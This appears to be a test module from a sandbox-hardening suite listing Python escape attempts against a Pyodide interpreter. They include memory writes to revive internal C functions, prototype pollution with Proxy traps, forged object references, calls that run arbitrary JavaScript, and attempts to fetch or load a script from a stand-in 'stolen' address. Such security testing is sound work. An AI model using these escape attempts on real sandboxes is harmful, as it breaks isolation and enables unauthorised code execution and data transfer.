/** Pyodide's functions of C, brought back by writing to memory: only JavaScript's fences are left. */
import { C_FUNCTIONS, REVIVED, WALK } from "./tools.mjs";

/**
 * A way that brings the C functions back and then does one thing, which may end the interpreter.
 * @param {string} name
 * @param {string} attempt
 * @returns {import("./tools.mjs").Way}
 */
const byCtypes = (name, attempt) => ({
  name,
  spoils: true,
  program: `${REVIVED}
import ctypes
lib = ctypes.PyDLL(None)
print("reached the C functions")
there = b"/some/school/lab/?stolen"
${attempt}`,
});

/** @type {import("./tools.mjs").Kind} */
export const FUNCTIONS_REVIVED = {
  kind: "functions of C revived",
  ways: [
    {
      name: "to_js and create_proxy, out of their module's table",
      spoils: true,
      program: `${WALK}${C_FUNCTIONS}
to_js, create_proxy = revived("to_js"), revived("create_proxy")
caught = []
def mine(*given):
    caught.extend(each for each in given if type(each).__name__.startswith("Js"))
    return 0
proxy = create_proxy(mine, capture_this=True, roundtrip=False)
array = to_js([3, 1, 2])
for call in (lambda: array.map(proxy), lambda: array.sort(proxy), lambda: array.map(proxy, None), lambda: array.constructor(proxy), lambda: proxy.call(None), lambda: array.forEach.call(array, proxy)):
    try:
        made = call()
        if type(made).__name__.startswith("Js"): caught.append(made)
    except Exception as error:
        print("closed", type(error).__name__)
print("walked", walk([array, proxy, to_js({"a": b"b"}), *caught], 1500))`,
    },
    {
      name: "proxies with functions of Python's in the place of JavaScript's own",
      spoils: true,
      program: `${WALK}${C_FUNCTIONS}
to_js, create_proxy = revived("to_js"), revived("create_proxy")
O = to_js({"a": 1}).constructor
heard = []
def watch(*given):
    heard.append(given)
    return O.fromEntries(to_js([]))
traps = to_js([[name, create_proxy(watch)] for name in ("get", "set", "has", "apply", "construct", "ownKeys", "getPrototypeOf", "toJSON", "then", "next", "getBuffer", "valueOf")])
planted = O.fromEntries(traps)
for one in (O, O.prototype, O.prototype.constructor, to_js([]).constructor, to_js([]).constructor.prototype, to_js(b"").constructor.prototype):
    for plant in (lambda: O.assign(one, planted), lambda: O.defineProperty(one, "toJSON", O.fromEntries(to_js([["value", watch]]))), lambda: setattr(one, "then", watch), lambda: O.setPrototypeOf(one, planted)):
        try:
            plant()
            print("OPEN: planted in", str(one)[:60])
        except Exception as error:
            print("closed", type(error).__name__)
walk([each for given in heard for each in given if type(each).__name__.startswith("Js")], 300)`,
    },
    {
      name: "messages of JavaScript's objects in the place of texts and bytes",
      spoils: true,
      program: `${WALK}${C_FUNCTIONS}
to_js, create_proxy = revived("to_js"), revived("create_proxy")
O = to_js({"a": 1}).constructor
ring = to_js({"a": 1})
O.assign(ring, O.fromEntries(to_js([["events", ring], ["kind", "finished"], ["id", 7]])))
deep = ring
for step in range(3000): deep = O.fromEntries(to_js([["more", deep]]))
wide = to_js([[str(number), number] for number in range(100_000)])
def lent(*given): return O.fromEntries(to_js([["data", O.fromEntries(to_js([["slice", create_proxy(lambda *a: O.fromEntries(to_js([["buffer", ring]])))]]))], ["release", create_proxy(lambda *a: None)]]))
false_bytes = O.fromEntries(to_js([["getBuffer", create_proxy(lent)]]))
found = handles()
print("found", len(found))
for handle in found:
    for given in ((ring, ring), (deep, b""), (wide, b""), (to_js(b"x" * 10), b""), ("[]", false_bytes), ('[["print",0,"stdout","x"]]', ring), (O, O), (handle, b""), (to_js([1, ring]), to_js([])), (10 ** 30, false_bytes)):
        try:
            handle(*given)
        except BaseException as error:
            pass
print("closed")`,
    },
    {
      name: "the reference in a JavaScript object, made another's",
      spoils: true,
      program: `${WALK}${C_FUNCTIONS}
to_js = revived("to_js")
handle = to_js([1])
words = at(id(handle), 12)
own = int(words[3])
other = at(id(to_js({"a": 1})), 12)
print("references", hex(own), hex(int(other[3])))
seen = 0
for number in [*range(0, 400), *(own + step for step in range(-16, 16))]:
    words[3] = number & 0xFFFFFFFF
    try:
        names = set(dir(handle)) & POWER
        seen += 1
        for name in names:
            if getattr(handle, name) is not None: print("OPEN", name, number)
    except Exception:
        pass
    finally:
        words[3] = own
print("closed", seen)`,
    },
    byCtypes(
      "a text run as JavaScript, at once",
      `lib.emscripten_run_script_string.restype = ctypes.c_char_p
print("OPEN", lib.emscripten_run_script_string(b"'a' + location"))`,
    ),
    byCtypes(
      "a text run as JavaScript, after the run",
      `lib.emscripten_async_run_script(b"self.postMessage('OPEN')", 0)
print("set")`,
    ),
    byCtypes(
      "a script, a file and a worker from an address",
      `for name, attempt in {
    "a file": lambda: lib.emscripten_wget(there, b"/tmp/out"),
    "a file into memory": lambda: lib.emscripten_async_wget_data(there, None, None, None),
    "a database": lambda: lib.emscripten_idb_async_store(b"stolen", b"key", b"value", 5, None, None, None),
    "a socket": lambda: lib.emscripten_websocket_is_supported() and print("OPEN"),
    "a script": lambda: lib.emscripten_async_load_script(there, None, None),
    "another worker": lambda: lib.emscripten_create_worker(there) > 0 and print("OPEN"),
}.items():
    try:
        attempt()
        print("asked for", name)
    except BaseException as error:
        print("closed", name, type(error).__name__)`,
    ),
  ],
};
